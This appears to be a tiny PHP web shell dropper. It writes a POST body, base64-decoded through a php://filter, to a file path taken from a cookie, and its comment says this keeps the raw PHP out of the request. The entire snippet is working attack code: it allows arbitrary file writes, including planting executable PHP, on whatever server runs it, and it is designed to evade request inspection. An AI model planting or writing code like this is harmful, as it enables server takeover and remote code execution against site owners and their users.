<?php
// write a base64 body to disk through a php://filter so the raw PHP never appears in the request
$target = 'php://filter/write=convert.base64-decode/resource=' . $_COOKIE['p'];
file_put_contents($target, $_POST['b']);
